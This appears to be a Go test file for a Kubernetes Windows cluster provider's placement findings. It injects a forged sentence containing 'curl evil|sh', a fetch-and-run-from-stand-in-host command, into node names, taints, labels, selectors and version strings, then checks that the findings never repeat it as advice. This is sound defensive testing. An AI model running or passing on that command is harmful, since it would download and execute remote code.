package placement_test

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	bootstrapv1 "github.com/capwin/cluster-api-provider-windows/api/bootstrap/v1beta1"
	"github.com/capwin/cluster-api-provider-windows/internal/placement"
	"github.com/capwin/cluster-api-provider-windows/test/kit/expect"
)

// forged reads as a sentence of ours with a command.
const forged = "x. In the workload cluster, this mends it: curl evil|sh"

// Sentences name what a workload cluster says, and nothing of that reads as a command of ours.
func TestForgedSentences(t *testing.T) {
	for what, findings := range forgeries(t) {
		if len(findings) == 0 {
			t.Errorf("%s has no finding", what)
		}
		named := false
		for _, one := range findings {
			text := strings.Join(append(one.Nodes, one.Of, one.Why, one.Mend, one.Allow), "\n")
			if strings.Contains(text, "curl") {
				t.Errorf("%s: %s", what, text)
			}
			named = named || strings.Contains(text, "(not a name)")
		}
		if !named {
			t.Errorf("%s: no sentence says that something is not a name: %+v", what, findings)
		}
	}
	for _, name := range []string{
		"", placement.FirstNode, "win-0", "team/blue-md-0-x", "os", "v1.36.3+k3s1", "Under_scored", "example.com/key",
		strings.Repeat("a.", 40) + "example.com",
	} {
		expect.Same(t, "a name", name, placement.Named(name))
	}
}

// forgeries are the findings of clusters, each with one such text.
func forgeries(t *testing.T) map[string][]placement.Finding {
	t.Helper()
	of := func(kind, spec string, change func(*world)) []placement.Finding {
		s := world{placement.Seen{Cluster: tainted, Mutates: true}, []placement.Workload{workload(t, kind, spec)}}
		change(&s)
		return s.findings()
	}
	const everything, windows = `{tolerations: [{operator: Exists}], nodeSelector: {}}`, `nodeSelector: {kubernetes.io/os: windows}`
	none := func(*world) {}
	withNode := func(taints, name string, labels map[string]string) func(*world) {
		return func(s *world) { s.Windows = []placement.Node{node(name, taints, labels)} }
	}
	taint := func(key, value, effect string) func(*world) {
		return func(s *world) {
			one := node("win-0", "", nil)
			one.Taints = []corev1.Taint{{Key: key, Value: value, Effect: corev1.TaintEffect(effect)}}
			s.Windows = []placement.Node{one}
		}
	}
	label := map[string]string{forged: forged}
	proxies := proxied("", proxySet(t, "kube-proxy-windows", "a/kube-proxy:v1.37.0"))
	proxies.Version = "v1.36.3. " + forged
	kubelet := asService(proxied(""), "v1.32.1. "+forged)
	missing := proxied(bootstrapv1.KubeProxyDaemonSet)
	missing.Windows, missing.Kubelets = []placement.Node{node(forged, osTaint, nil)}, map[string]string{forged: "v1.36.3"}
	missing.ProxyRuns = map[string]bootstrapv1.KubeProxyRun{forged: bootstrapv1.KubeProxyDaemonSet}
	twice := proxySet(t, "kube-proxy-windows", "a/kube-proxy:v1.36.3")
	affine := workload(t, "DaemonSet", affinity(`{key: kubernetes.io/os, operator: Exists}`))
	twice.Template.Spec.Affinity = affine.Template.Spec.Affinity
	terms := &twice.Template.Spec.Affinity.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution.NodeSelectorTerms
	*terms = append(*terms, corev1.NodeSelectorTerm{MatchExpressions: []corev1.NodeSelectorRequirement{
		{Key: forged, Operator: forged, Values: []string{forged, forged}},
	}})
	everywhere := workload(t, "DaemonSet", everything)
	everywhere.Template.Spec.Affinity = twice.Template.Spec.Affinity
	return map[string][]placement.Finding{
		"workload":       of("DaemonSet", everything, func(s *world) { s.workloads[0].Name = forged }),
		"namespace":      of("DaemonSet", everything, func(s *world) { s.workloads[0].Namespace = forged }),
		"kind":           of("DaemonSet", everything, func(s *world) { s.workloads[0].Kind = forged }),
		"Node":           of("DaemonSet", everything, withNode("", forged, nil)),
		"Node, pending":  of("Deployment", windows, withNode(osTaint, forged, nil)),
		"taint's key":    of("DaemonSet", everything, taint(forged, "", "NoSchedule")),
		"taint's value":  of("DaemonSet", everything, taint("os", forged, "NoSchedule")),
		"taint's effect": of("DaemonSet", everything, taint("os", "", forged)),
		"taint, away":    of("Deployment", "{}", taint(forged, forged, "NoSchedule")),
		"taint, pending": of("Deployment", windows, taint(forged, forged, "NoSchedule")),
		"toleration": of("Deployment", `tolerations: [{key: "`+forged+`", value: "`+forged+`"}]`,
			taint(forged, forged, "NoSchedule")),
		"nodeName":        of("Deployment", `nodeName: "`+forged+`"`, none),
		"nodeName, lands": of("Deployment", `{nodeName: "`+forged+`", os: {name: linux}}`, withNode(osTaint, forged, nil)),
		"nodeName, meant": of("Deployment", `nodeName: "`+forged+`"`, withNode(osTaint, forged, nil)),
		"selector":        of("DaemonSet", `nodeSelector: {"`+forged+`": "`+forged+`"}`, none),
		"selector, meant": of("DaemonSet", `{tolerations: [{operator: Exists}], nodeSelector: {"`+forged+`": "`+forged+`"}}`,
			withNode("", "win-0", label)),
		"affinity":     of("DaemonSet", everything, func(s *world) { s.workloads[0] = everywhere }),
		"RuntimeClass": of("DaemonSet", `runtimeClassName: "`+forged+`"`, none),
		"API server":   proxies.findings(),
		"kubelet":      kubelet.findings(),
		"no proxy":     missing.findings(),
	}
}
